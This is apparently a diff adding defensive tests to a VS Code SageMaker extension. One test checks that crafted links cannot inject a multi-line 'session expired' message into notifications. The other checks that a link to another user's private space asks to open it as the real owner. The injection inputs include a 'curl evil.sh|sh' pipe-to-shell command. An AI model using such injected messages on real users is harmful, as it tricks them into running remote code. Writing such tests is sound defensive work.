@@ -257,6 +257,62 @@ describe('Open Recent, Copy Link and links to an environment', () => {
       });
     }
 
+    it('a link cannot shape the message: a long or multi-line value is echoed short, quoted and on one line; an unknown key never', async () => {
+      await quietTree();
+      await emulator.resetCalls();
+      // As the URI handler runs it: through the command error wrapper, to the notification.
+      const handle = api().services.errors.wrap('SageMaker link', (uri: vscode.Uri) => openLink(api().services, uri));
+      for (const query of [
+        `kind=notebook&name=nb&region=${'u'.repeat(200_000)}`,
+        'kind=notebook&name=nb&region=us-east-1.%0A%0AYour%20AWS%20session%20has%20expired.%20Run%20curl%20evil.sh%7Csh',
+        `kind=notebook&region=us-east-1&name=nb&Your%20session%20expired.%0ARun%20curl%20evil.sh%7Csh${'x'.repeat(1000)}=1`,
+      ]) {
+        prompter.messages.length = 0;
+        await handle(vscode.Uri.parse(`${LINK}?${query}`));
+        const [shown, ...more] = prompter.messages;
+        assert.equal(more.length, 0);
+        assert.equal(shown?.level, 'error');
+        assert.match(shown.text, /^This SageMaker link cannot be opened: /);
+        assert.ok(shown.text.length <= 400, `${shown.text.length} characters`);
+        assert.doesNotMatch(shown.text, /[\r\n\u2028\u2029]/);
+        assert.doesNotMatch(shown.text, /Your session expired|xxxx/);
+      }
+      prompter.messages.length = 0;
+      assert.deepEqual(await emulator.calls(), {});
+    });
+
+    it('a link to a private space under another user profile asks again, naming the owner it really opens as', async () => {
+      await quietTree();
+      await emulator.resetCalls();
+      const link = `${LINK}?kind=space&region=us-east-1&domain=d-7kx2hq9mzp4a&profile=bob&space=alice-jupyterlab`;
+      // Not confirmed the second time (dismissed): the lookup only, no URL.
+      const realMessage = prompter.message.bind(prompter);
+      prompter.message = (level, text, buttons, modal) => {
+        prompter.messages.push({ level, text, buttons, modal: modal ?? false });
+        return Promise.resolve(prompter.messages.length === 1 ? 'Open' : undefined);
+      };
+      try {
+        await openLink(api().services, vscode.Uri.parse(link));
+      } finally {
+        prompter.message = realMessage;
+      }
+      assert.equal(prompter.messages.length, 2);
+      assert.match(prompter.messages[0].text, /space alice-jupyterlab of user profile bob/);
+      assert.equal(
+        prompter.messages[1].text,
+        'The space alice-jupyterlab is private to user profile alice, not bob as the link says: it would open as alice. Open it as alice?',
+      );
+      assert.deepEqual(prompter.messages[1].buttons, ['Open as alice']);
+      assert.equal(prompter.opened.length, 0);
+      assert.deepEqual(await emulator.calls(), { DescribeSpace: 1 });
+      // Confirmed: it opens as alice.
+      prompter.clear();
+      prompter.script({ button: 'Open' }, { button: 'Open as alice' });
+      await openLink(api().services, vscode.Uri.parse(link));
+      assert.match(await page(lastOpened()), /alice-jupyterlab/);
+      assert.equal((await emulator.grants()).at(-1)?.userProfileName, 'alice');
+    });
+
     it('a link to a resource that does not exist says so after the one lookup it needs', async () => {
       await quietTree();
       await emulator.resetCalls();
